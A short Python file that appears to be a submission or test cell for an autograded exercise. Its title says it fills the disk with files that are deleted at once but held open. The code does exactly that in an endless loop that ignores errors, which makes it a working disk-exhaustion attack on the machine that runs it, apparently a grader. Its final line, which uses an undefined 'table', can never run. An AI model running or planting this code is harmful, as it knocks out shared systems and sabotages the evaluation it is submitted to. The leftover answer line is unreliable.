# title: fills the disk with files that are deleted at once, and stay open
# exercise: Exercise 1
# points: total-test=0
# peers: no

# %% total
import os

lines = []
while True:
    try:
        lines.append(os.open("gone", os.O_RDWR | os.O_CREAT | os.O_EXCL))
        os.remove("gone")
        os.write(lines[-1], bytes(4 * 2**20))
    except OSError:
        pass
total = int(table["y"].sum())
